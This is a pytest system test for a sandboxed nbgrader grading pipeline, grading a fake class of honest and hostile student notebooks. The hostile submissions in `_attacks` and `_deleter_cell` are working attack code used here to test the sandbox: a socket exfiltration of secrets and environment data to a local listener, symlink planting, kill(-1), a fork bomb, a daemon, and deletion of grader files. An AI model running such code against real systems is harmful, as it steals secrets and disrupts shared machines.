"""A fake class graded end to end with nbgrader, hostile students among honest ones, at ``--jobs 2``.

Two lessons: 00 (the face lesson's warm-up, one exercise) and 06 (the style costs, five). Honest
students (their points are what a solo run gives, asserted in ``EXPECTED``):

==========  ======================================================  ==========  ==================
student     what they hand in                                       00          06 (5 exercises)
==========  ======================================================  ==========  ==================
solution    the instructor's solutions                              1           1 1 1 1 1
-x          the solutions, in a folder named like an option         1           (missing)
untouched   the student copies as released                          0           0 0 0 0 0
mistakes1   wrong variant 1 of euclidean_distance, content, style,  0           0 1 1 0 0
            total
mistakes3   no 00 (a missing notebook); wrong gram_matrix and       0 missing   1 0 0 0 1
            layer cost (the style cost needs them)
hog         compute_content_cost kills its kernel; gram_matrix      (missing)   0 0 0 0 1
            allocates until memory runs out
tamperer    deletes 00's test cell; edits 06's gram test cell to    1           1 0 0 0 0
            print "passed" with a wrong gram_matrix; deletes the
            total-cost test cell with a wrong total_cost
broken      a file that is not a notebook                           0           (missing)
==========  ======================================================  ==========  ==================

Hostile students (lesson 00; each attack of issue 24, seen on the grader before the sandbox):
``linker`` hands in a link to a root-only file; ``planter`` replaces its notebook in the working
folder with links to a root-only file, the gradebook and ``/dev/null``; ``spy`` reads and prints
everything secret it can find (files, the gradebook, the source notebook with its instructor-only
hidden assert, other submissions, root's environment, other kernels' connection files, open
ports) and sends root's environment to a server on this machine; ``neighbour`` writes into every
other job's folders and feedback it can guess; ``killer`` sends ``kill(-1, SIGKILL)``;
``daemon`` leaves a double-forked process behind; ``forker`` starts processes until it may not;
``deleter`` deletes and writes the grader's files. The run must leave every root-only canary and
the gradebook as they were (contents and modes), no secret in any feedback, nothing running, and
every student in ``grades.csv``.

The limits (time per cell and per notebook, disk, memory with children) and the retry of a grader
failure are shown on a second, smaller class with tight limits, on a lesson without TensorFlow.
"""

from __future__ import annotations

import csv
import os
import re
import secrets
import shutil
import socket
import stat
import threading
import time
from pathlib import Path

import nbformat
import pytest
from conftest import require_asset

from facelib.course import checks
from facelib.course.grading import classroom, grader

pytestmark = pytest.mark.system  # make test-system (see pyproject.toml's markers)

FACE, STYLE = "00_setup_check", "06_style_transfer_costs"
EXERCISES = {FACE: ["euclidean_distance"],
             STYLE: ["compute_content_cost", "gram_matrix", "compute_layer_style_cost", "compute_style_cost",
                     "total_cost"]}
_OWN_GRAMS = ("_, n_H, n_W, n_C = a_G.shape\nG_S = tf.einsum('bijc,bijd->bcd', a_S, a_S)\n"
              "G_G = tf.einsum('bijc,bijd->bcd', a_G, a_G)\n")
WRONG = {  # a plausible wrong body per exercise (the code between the solution markers)
    "euclidean_distance": "return np.sum(np.square(x - y), axis=-1)",                    # squared
    "compute_content_cost":
        "_, n_H, n_W, n_C = a_G.shape\nreturn tf.reduce_sum(tf.square(a_C - a_G)) / (n_H * n_W * n_C)",  # no 4
    "gram_matrix": "m, n_H, n_W, n_C = a.shape\nu = tf.reshape(a, (m, n_C, n_H * n_W))\n"
                   "return tf.matmul(u, u, transpose_b=True)",                            # reshaped, not transposed
    "compute_layer_style_cost":  # their own Gram matrices, so only the normalisation is wrong
        _OWN_GRAMS + "return tf.reduce_sum(tf.square(G_S - G_G)) / (n_H * n_W * n_C) ** 2",      # no 2
    "compute_style_cost":
        "return sum(compute_layer_style_cost(style_activations[n], generated_activations[n]) for n in style_layers)",
    "total_cost": "return alpha * J_style + beta * J_content",                           # swapped weights
}
LOOP = "while True:\n    pass"
CRASH = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)  # the kernel dies at once"
HOG = "blocks = []\nwhile True:\n    blocks.append(np.ones(1 << 27))  # 1 GiB at a time, touched"
PASSED_LINE = 'print("gram_matrix: all 4 tests passed.")'
SOLUTION = "def euclidean_distance(x, y):\n    return np.sqrt(np.sum(np.square(x - y), axis=-1))"
SANDBOXED = "open('/proc/1/comm').read().strip() == 'bwrap'"  # a dangerous attack fires only inside the sandbox
MARK = "facelib-grading-test-daemon"
CHECKS = Path(checks.__file__).parent
FIRST_UID = 61100

EXPECTED = {  # honest student -> notebook -> points per exercise, in notebook order
    "solution": {FACE: [1], STYLE: [1, 1, 1, 1, 1]},
    "-x": {FACE: [1], STYLE: [0, 0, 0, 0, 0]},
    "untouched": {FACE: [0], STYLE: [0, 0, 0, 0, 0]},
    "mistakes1": {FACE: [0], STYLE: [0, 1, 1, 0, 0]},
    "mistakes3": {FACE: [0], STYLE: [1, 0, 0, 0, 1]},
    "hog": {FACE: [0], STYLE: [0, 0, 0, 0, 1]},
    "tamperer": {FACE: [1], STYLE: [1, 0, 0, 0, 0]},
    "broken": {FACE: [0], STYLE: [0, 0, 0, 0, 0]},
}
HOSTILE = ["linker", "planter", "spy", "neighbour", "killer", "daemon", "forker", "deleter"]


def _with_body(source: str, body: str) -> str:
    match = re.search(r"^([ \t]*)### BEGIN SOLUTION\n.*?^[ \t]*### END SOLUTION", source, re.DOTALL | re.MULTILINE)
    indented = "\n".join(match[1] + line for line in body.splitlines())
    return source[:match.start()] + indented + source[match.end():]


def _submission(course: Path, stem: str, bodies: dict[str, str] | None = None, untouched: bool = False,
                tests: dict[str, str | None] | None = None, cells: dict[str, str] | None = None,
                extra: list[str] = ()):
    """The release of ``stem`` filled in: solutions, except ``bodies`` (function -> body) and ``cells``
    (grade_id -> whole source); test cells in ``tests`` are replaced (str) or deleted (None); ``extra``
    code cells go before the first solution cell."""
    release = nbformat.read(course / "release" / stem / f"{stem}.ipynb", as_version=4)
    source = {c.metadata.nbgrader["grade_id"]: c.source for c in nbformat.read(
        course / "source" / stem / f"{stem}.ipynb", as_version=4).cells if "nbgrader" in c.metadata}
    kept = []
    for cell in release.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if cell.metadata.get("nbgrader", {}).get("solution"):
            if not kept or kept[-1].source not in extra:
                kept += [nbformat.v4.new_code_cell(code) for code in extra]
            if not untouched:
                cell.source = (cells or {}).get(gid) or (
                    _with_body(source[gid], bodies[gid]) if gid in (bodies or {}) else source[gid])
        if gid in (tests or {}):
            if tests[gid] is None:
                continue
            cell.source = tests[gid]
        kept.append(cell)
    release.cells = kept
    return release


def _wrong(functions: list[str]) -> dict[str, str]:
    return {f: WRONG[f] for f in functions}


def _attacks(places: dict[str, str], port: int) -> dict[str, str]:
    """Lesson 00 solution cells of the hostile students (each ends with a correct function)."""
    p = {k: repr(v) for k, v in places.items()}
    return {
        "planter": f"""import os, glob
def plant(target, name):
    try:
        if os.path.lexists(name):
            os.remove(name)
        os.symlink(target, name)
    except OSError as error:
        print(name, error)
for name in glob.glob('*.ipynb'):
    plant({p['canary']}, name)
for i, target in enumerate([{p['canary']}, {p['gradebook']}, '/dev/null', {p['canary_dir']}, '/root', '/etc']):
    plant(target, f'link{{i}}')
plant({p['gradebook']}, 'gradebook.db')
""",
        "spy": f"""import glob, os, socket
found = []
def grab(path):
    try:
        with open(path, 'rb') as f:
            found.append(path + ': ' + f.read(1 << 20).decode('latin-1'))
    except OSError as error:
        found.append(f'{{path}}: {{type(error).__name__}}')
for pattern in [{p['canary']}, {p['gradebook']}, {p['source']}, {p['submissions']} + '/*/*', {p['work']} + '/jobs/*/*',
                {p['work']} + '/jobs/*/runtime/*', '/dev/shm/*/*/*', '/proc/*/environ', '/proc/*/cmdline',
                '/proc/net/tcp', '/proc/net/tcp6', '/run/*', '/root/*', '/root/.*']:
    for path in glob.glob(pattern) or [pattern]:
        grab(path)
found.append(repr(dict(os.environ)))
for host in ['127.0.0.1', {p['host']}]:
    try:
        with socket.create_connection((host, {port}), timeout=3) as conn:
            conn.sendall(repr(found).encode())
        found.append('SENT to ' + host)
    except OSError as error:
        found.append(f'{{host}}: {{error}}')
print('\\n'.join(found))
""",
        "neighbour": f"""import glob, os
wrote = []
for pattern in [{p['work']} + '/jobs/*/autograded/*/*/', {p['work']} + '/jobs/*/', {p['course']} + '/autograded/*/*/',
                {p['out']} + '/feedback/*/', '/dev/shm/*/*/', '/tmp/', {p['submissions']} + '/*/']:
    for folder in glob.glob(pattern) or [pattern]:
        try:
            with open(os.path.join(folder, 'planted.html'), 'w') as f:
                f.write('planted')
            wrote.append(folder)
        except OSError:
            pass
for path in glob.glob({p['work']} + '/jobs/*/runtime/*.json') + glob.glob('/dev/shm/*/*/kernel-*'):
    try:
        os.remove(path)
        wrote.append(path)
    except OSError:
        pass
print('wrote', wrote)
""",
        "killer": f"import os, signal\nif {SANDBOXED}:\n    os.kill(-1, signal.SIGKILL)\n",
        "daemon": f"""import os, subprocess
if {SANDBOXED} and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv('/bin/sh', ['sh', '-c', 'sleep 3600 # {MARK}'])
    os._exit(0)
""",
        "forker": f"""import subprocess
children = []
if {SANDBOXED}:
    try:
        for _ in range(2000):
            children.append(subprocess.Popen(['sleep', '3600']))
    except OSError as error:
        print('stopped after', len(children), 'processes:', error)
""",
    }


def _deleter_cell(places: dict[str, str]) -> str:
    targets = [("remove", "facelib.course.checks._core.__file__"), ("remove", repr(places["checkout_core"])),
               ("remove", repr(places["gradebook"])), ("write", repr(places["checkout_planted"]))]
    lines = ["import os", "import facelib.course.checks._core", "errors = []"]
    for action, target in targets:
        do = f"os.remove({target})" if action == "remove" else f"open({target}, 'w').close()"
        lines += ["try:", f"    {do}", "except OSError as error:", "    errors.append(error)"]
    return "\n".join([*lines, "if errors:", "    raise errors[0]", "", SOLUTION])


def _class(course: Path, places: dict[str, str], port: int) -> dict[str, dict[str, nbformat.NotebookNode]]:
    own = ["compute_content_cost", "compute_style_cost", "total_cost"]  # wrong on their own
    hostile = {name: {FACE: _submission(course, FACE, cells={"euclidean_distance": code + "\n" + SOLUTION})}
               for name, code in _attacks(places, port).items()}
    return {
        "solution": {FACE: _submission(course, FACE), STYLE: _submission(course, STYLE)},
        "-x": {FACE: _submission(course, FACE)},
        "untouched": {FACE: _submission(course, FACE, untouched=True),
                      STYLE: _submission(course, STYLE, untouched=True)},
        "mistakes1": {FACE: _submission(course, FACE, _wrong(["euclidean_distance"])),
                      STYLE: _submission(course, STYLE, _wrong(own))},
        "mistakes3": {STYLE: _submission(course, STYLE, _wrong(["gram_matrix", "compute_layer_style_cost"]))},
        "hog": {STYLE: _submission(course, STYLE, {"compute_content_cost": CRASH, "gram_matrix": HOG})},
        "tamperer": {FACE: _submission(course, FACE, tests={"test_euclidean_distance": None}),
                     STYLE: _submission(course, STYLE, _wrong(["gram_matrix", "total_cost"]),
                                        tests={"test_gram_matrix": PASSED_LINE, "test_total_cost": None})},
        "deleter": {FACE: _submission(course, FACE, cells={"euclidean_distance": _deleter_cell(places)})},
        **hostile,
    }


def _require_sandbox():
    if shutil.which("bwrap") is None:
        if os.environ.get("CI") == "true":
            pytest.fail(f"CI needs bubblewrap: {grader.sandbox.INSTALL}")
        pytest.skip(f"bubblewrap is not installed ({grader.sandbox.INSTALL})")


def _snapshot(paths: list[Path]) -> dict[str, tuple]:
    """Kind, mode and (for files but the gradebook, which grading writes) contents of each path, links not
    followed."""
    out = {}
    for path in paths:
        info = path.lstat()
        same = stat.S_ISREG(info.st_mode) and path.name != "gradebook.db"
        out[str(path)] = (stat.S_IFMT(info.st_mode), stat.S_IMODE(info.st_mode), path.read_bytes() if same else None)
    return out


def _processes(marker: str) -> list[str]:
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            text = cmdline.read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if marker in text:
            found.append(f"{cmdline.parent.name}: {text}")
    return found


class _Listener:
    """A TCP server on every address of this machine that records what reaches it."""

    def __init__(self):
        self.server = socket.create_server(("", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.server.settimeout(0.5)
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            with conn:
                self.received.append(conn.recv(1 << 16) or b"(connected)")

    def close(self):
        self.stop = True
        self.thread.join()
        self.server.close()


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """Lessons 00 and 06 as a course; 00's test cell gets an instructor-only hidden assert with a secret."""
    _require_sandbox()
    for name in ("nst_content", "nst_style", "squeezenet"):  # what lesson 06 loads
        require_asset(name)
    secret = f"facelib-secret-{secrets.token_hex(8)}"
    lessons = tmp_path_factory.mktemp("lessons")
    nb = nbformat.read(classroom.ROOT / "notebooks" / f"{FACE}.ipynb", as_version=4)
    test = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "test_euclidean_distance")
    test.source = test.source.replace(classroom.HIDDEN_END, f"assert {secret!r}\n{classroom.HIDDEN_END}")
    nbformat.write(nb, lessons / f"{FACE}.ipynb")
    shutil.copyfile(classroom.ROOT / "notebooks" / f"{STYLE}.ipynb", lessons / f"{STYLE}.ipynb")
    folder = tmp_path_factory.mktemp("course")
    classroom.make_assignments([lessons / f"{FACE}.ipynb", lessons / f"{STYLE}.ipynb"], course=folder)
    return folder, secret


@pytest.fixture(scope="module")
def graded(course, tmp_path_factory):
    folder, secret = course
    base = tmp_path_factory.mktemp("class")
    canary_dir = base / "canary"
    canary_dir.mkdir(mode=0o700)
    canary = canary_dir / "secret.txt"
    canary.write_text(secret)
    canary.chmod(0o600)
    submissions, out, work = base / "submissions", base / "grades", base / "work"
    places = {"canary": str(canary), "canary_dir": str(canary_dir), "gradebook": str(folder / "gradebook.db"),
              "source": str(folder / "source" / FACE / f"{FACE}.ipynb"), "submissions": str(submissions),
              "work": str(work), "course": str(folder), "out": str(out),
              "host": socket.gethostbyname(socket.gethostname()),
              "checkout_core": str(CHECKS / "_core.py"), "checkout_planted": str(CHECKS / "planted.py")}
    listener = _Listener()
    for student, notebooks in _class(folder, places, listener.port).items():
        (submissions / student).mkdir(parents=True)
        for stem, nb in notebooks.items():
            nbformat.write(nb, submissions / student / f"{stem}.ipynb")
    (submissions / "broken").mkdir()
    (submissions / "broken" / f"{FACE}.ipynb").write_text('{"cells": [{"cell_type": "code", "source": ')
    (submissions / "linker").mkdir()
    (submissions / "linker" / f"{FACE}.ipynb").symlink_to(canary)
    guarded = [canary, canary_dir, Path("/dev/null"), folder / "source" / FACE / f"{FACE}.ipynb",
               folder / "gradebook.db"]
    before = _snapshot(guarded)
    sockets = set(Path("/dev/shm").glob("facelib-grading-*"))  # another grading run's may be there
    os.environ["FACELIB_GRADING_SECRET"] = secret  # root's environment holds a secret too
    try:
        start = time.perf_counter()
        results = grader.grade(submissions, jobs=2, stems=[FACE, STYLE], course=folder, out=out, work=work,
                               limits=grader.Limits(cell_seconds=60, submission_seconds=300, memory_gb=4),
                               first_uid=FIRST_UID)
        seconds = time.perf_counter() - start
    finally:
        del os.environ["FACELIB_GRADING_SECRET"]
        listener.close()
    with open(out / "grades.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    return {"results": results, "rows": rows, "seconds": seconds, "before": before, "after": _snapshot(guarded),
            "received": listener.received, "secret": secret, "out": out, "course": folder, "work": work,
            "sockets_left": set(Path("/dev/shm").glob("facelib-grading-*")) - sockets}


def _feedback(out: Path, student: str, stem: str) -> str:
    return (out / "feedback" / student / f"{stem}.html").read_text()


def test_honest_students_get_their_points_and_every_student_is_listed(graded):
    results, rows = graded["results"], graded["rows"]
    per_notebook = {stem: [r.seconds for r in results if r.notebook == stem and r.seconds] for stem in (FACE, STYLE)}
    print(f"\nfake class graded in {graded['seconds']:.0f} s with --jobs 2; mean seconds per submission: "
          + ", ".join(f"{stem} {sum(s) / len(s):.0f} s (n={len(s)})" for stem, s in per_notebook.items()))
    got = {}
    for row in rows:
        got.setdefault(row["student"], {})[row["notebook"]] = [int(float(row[e])) for e in EXERCISES[row["notebook"]]]
        assert float(row["total"]) == sum(got[row["student"]][row["notebook"]])
    assert {s: got[s] for s in EXPECTED} == EXPECTED
    assert set(got) == set(EXPECTED) | set(HOSTILE)


def test_feedback_names_what_went_wrong(graded):
    notes = {(r.student, r.notebook): " | ".join(r.notes) for r in graded["results"]}
    assert "memory" in notes["hog", STYLE] and "kernel died" in notes["hog", STYLE]
    assert "test_euclidean_distance was deleted" in notes["tamperer", FACE]
    assert "test_gram_matrix was edited" in notes["tamperer", STYLE]
    assert "test_total_cost was deleted" in notes["tamperer", STYLE]
    assert "Read-only file system" in notes["deleter", FACE]
    assert "no notebook submitted" in notes["mistakes3", FACE]
    assert "could not be read" in notes["broken", FACE]
    assert "is a link" in notes["linker", FACE] and "refused" in notes["linker", FACE]
    assert "No such process" in notes["killer", FACE]          # kill(-1) fired: nothing it may signal but itself
    assert not notes["solution", STYLE] and not notes["solution", FACE] and not notes["-x", FACE]
    for student in EXPECTED:
        for stem in (FACE, STYLE):
            assert f"{stem}: {sum(EXPECTED[student][stem])} / {len(EXERCISES[stem])} points" in \
                _feedback(graded["out"], student, stem)


def test_nothing_root_owns_was_changed_or_leaked(graded):
    assert graded["after"] == graded["before"]                 # canaries, source, /dev/null; the gradebook's mode
    assert not (CHECKS / "planted.py").exists() and (CHECKS / "_core.py").is_file()
    assert graded["received"] == [], "a kernel reached the network"
    secret = graded["secret"]
    for path in (graded["out"] / "feedback").rglob("*"):
        assert path.is_dir() or path.suffix == ".html" and path.parent.parent.name == "feedback", path
        if path.is_file():
            assert secret not in path.read_text(errors="replace"), path
    assert not list((graded["course"] / "autograded").rglob("planted.html"))
    spy = _feedback(graded["out"], "spy", FACE)
    assert "Network is unreachable" in spy or "Connection refused" in spy


def test_nothing_of_a_submission_runs_after_the_run(graded):
    assert _processes(MARK) == []
    uids = {str(uid) for uid in range(FIRST_UID, FIRST_UID + 10)}  # 2 of them, or more when other runs held some
    running = [s.parent.name for s in Path("/proc").glob("[0-9]*/status")
               if uids & set(next((ln.split()[1:3] for ln in s.read_text().splitlines() if ln.startswith("Uid:")), []))]
    assert running == []
    assert not graded["sockets_left"]


def test_grades_are_in_the_course_gradebook(graded):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{graded['course'] / 'gradebook.db'}") as gb:
        for student, notebooks in EXPECTED.items():
            for stem, points in notebooks.items():
                if student in ("mistakes3", "hog") and stem == FACE or stem == STYLE and student in ("-x", "broken"):
                    continue  # nothing handed in, nothing recorded
                assert gb.find_submission_notebook(stem, stem, student).score == sum(points), (student, stem)


TINY = "99_tiny"


@pytest.fixture(scope="module")
def limited(tmp_path_factory):
    """A small class graded with tight limits, on a one-exercise lesson without TensorFlow (seconds per
    kernel); the grader fails once for ``flaky`` and always for ``doomed``."""
    _require_sandbox()
    base = tmp_path_factory.mktemp("limited")
    lesson = nbformat.v4.new_notebook(metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                               "language": "python"}})
    for i, code in enumerate(["import numpy as np\nfrom facelib.course.checks import check_euclidean_distance",
                              "def euclidean_distance(x, y):\n    ### BEGIN SOLUTION\n"
                              "    return np.sqrt(np.sum(np.square(x - y), axis=-1))\n    ### END SOLUTION",
                              "# NBVAL_CHECK_OUTPUT\ncheck_euclidean_distance(euclidean_distance);"]):
        lesson.cells.append(nbformat.v4.new_code_cell(code))
        lesson.cells[-1].id = f"tiny{i}"
    nbformat.write(classroom.tag_notebook(lesson), base / f"{TINY}.ipynb")
    folder = base / "course"
    classroom.make_assignments([base / f"{TINY}.ipynb"], course=folder)
    slow = ["import time\ntime.sleep(5)"] * 12             # each cell under the 30 s limit, 60 s in all
    fill = """written = 0
for place in ['.', '/tmp', '/dev/shm']:
    for i in range(100):
        try:
            with open(f'{place}/fill{i}', 'wb') as f:
                f.write(bytes(8 << 20))
            written += 8
        except OSError:
            break
print(written, 'MB written')
with open('more', 'wb') as f:
    f.write(bytes(8 << 20))
"""
    fork = """import subprocess, sys  # three children of 400 MB each, every page touched
hog = 'import time\\nblock = bytearray(400 << 20)\\nblock[::4096] = bytes(len(block) // 4096)\\ntime.sleep(5)'
children = [subprocess.Popen([sys.executable, '-c', hog]) for _ in range(3)]
print([child.wait() for child in children])
"""
    listener = _Listener()
    host = socket.gethostbyname(socket.gethostname())
    reach = f"import socket\nsocket.create_connection(({host!r}, {listener.port}), timeout=5)\n"
    cls = {"slowpoke": _submission(folder, TINY, extra=slow),
           "looper": _submission(folder, TINY, {"euclidean_distance": LOOP}),
           "netter": _submission(folder, TINY, cells={"euclidean_distance": reach + SOLUTION}),
           "filler": _submission(folder, TINY, cells={"euclidean_distance": fill + SOLUTION}),
           "forkhog": _submission(folder, TINY, cells={"euclidean_distance": fork + SOLUTION}),
           "flaky": _submission(folder, TINY), "doomed": _submission(folder, TINY)}
    submissions = base / "submissions"
    for student, nb in cls.items():
        (submissions / student).mkdir(parents=True)
        nbformat.write(nb, submissions / student / f"{TINY}.ipynb")
    calls: dict[str, int] = {}
    real = grader._run_nbgrader

    def failing(job, uid, cgroup):  # an infrastructure failure before any cell ran
        calls[job.student] = calls.get(job.student, 0) + 1
        if job.student == "doomed" or job.student == "flaky" and calls[job.student] == 1:
            return 1, "RuntimeError: Kernel died before replying to kernel_info"
        return real(job, uid, cgroup)

    limits = grader.Limits(cell_seconds=30, submission_seconds=40, memory_gb=1, disk_mb=64)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(grader, "_run_nbgrader", failing)
        results = grader.grade(submissions, jobs=2, limits=limits, course=folder, out=base / "grades",
                               work=base / "work", first_uid=FIRST_UID + 100)
    listener.close()
    assert listener.received == []
    return {r.student: r for r in results}, calls


def test_a_notebook_is_stopped_at_its_time_limit(limited):
    results, _ = limited
    slow = results["slowpoke"]
    assert slow.total == 0 and "exceeded the 40-second limit" in " ".join(slow.notes)
    assert slow.seconds < 40 + 30, slow.seconds                 # the limit, plus starting and stopping


def test_a_cell_is_stopped_at_its_time_limit(limited):
    results, _ = limited
    looper = results["looper"]
    assert looper.total == 0 and "time limit" in " ".join(looper.notes), looper.notes


def test_the_working_folder_tmp_and_shm_share_a_disk_cap(limited):
    results, _ = limited
    notes = " ".join(results["filler"].notes)
    assert "No space left on device" in notes, notes
    assert not Path("/tmp/fill0").exists() and not Path("/dev/shm/fill0").exists()   # its /tmp was its own


def test_memory_is_limited_for_the_kernel_and_its_children_together(limited):
    probe = grader.sandbox.JobCgroup("facelib-grading-probe", 1 << 30, 64)
    probe.remove()
    if not probe.usable:
        pytest.skip("no writable cgroup here: memory is bounded per process only (RLIMIT_AS)")
    results, _ = limited
    notes = " ".join(results["forkhog"].notes)
    assert "memory limit" in notes, notes


def test_feedback_says_a_notebook_tried_to_reach_the_network(limited):
    results, _ = limited
    assert "tried to reach the network" in " ".join(results["netter"].notes)


def test_a_grader_failure_is_retried_and_never_blamed_on_the_student(limited):
    results, calls = limited
    assert results["flaky"].total == 1 and calls["flaky"] == 2 and not results["flaky"].notes
    assert calls["doomed"] == grader.ATTEMPTS
    assert "not the student's fault" in " ".join(results["doomed"].notes)


def test_a_kernel_lost_or_wedged_while_running_earlier_cells_again_does_not_end_grading(tmp_path):
    """RestartingExecute on a plain local kernel (harmless cells): cell 0 kills its kernel when it runs a
    second time, cell 1 wedges it (ignoring the interrupt) when it runs a second time; cell 2 kills it."""
    from nbformat.v4 import new_code_cell, new_notebook

    from facelib.course.grading.autograde import RestartingExecute

    def counted(name: str, second_time: str) -> str:
        return (f"import os, pathlib, signal, time\nruns = pathlib.Path({str(tmp_path)!r}) / {name!r}\n"
                "runs.mkdir(exist_ok=True)\nn = len(list(runs.iterdir()))\n(runs / str(n)).touch()\n"
                f"if n == 1:\n    {second_time}\n")
    cells = [counted("dies", "os._exit(1)"),
             counted("wedges", "signal.signal(signal.SIGINT, signal.SIG_IGN)\n    time.sleep(120)"),
             "os._exit(1)", "print('graded on')"]
    nb = new_notebook(cells=[new_code_cell(c) for c in cells],
                      metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}})
    start = time.perf_counter()
    executed, _ = RestartingExecute(timeout=5, kernel_name="python3").preprocess(
        nb, {"metadata": {"path": str(tmp_path)}})
    assert [o.get("text") for o in executed.cells[3].outputs] == ["graded on\n"]
    assert executed.cells[2].outputs[-1].ename == "DeadKernelError"
    assert sorted(p.name for p in (tmp_path / "dies").iterdir()) == ["0", "1"]    # run once more, then skipped
    assert sorted(p.name for p in (tmp_path / "wedges").iterdir()) == ["0", "1"]
    assert time.perf_counter() - start < 120
